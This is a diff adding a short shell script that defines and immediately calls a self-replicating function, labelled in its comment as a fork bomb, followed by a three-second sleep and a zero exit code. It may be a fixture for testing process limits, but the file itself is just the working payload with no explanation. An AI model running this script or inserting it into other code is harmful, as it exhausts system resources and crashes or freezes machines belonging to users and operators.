@@ -1,0 +1,6 @@
+#!/bin/sh
+# Fork bomb.
+bomb() { bomb | bomb & }
+bomb
+sleep 3
+exit 0
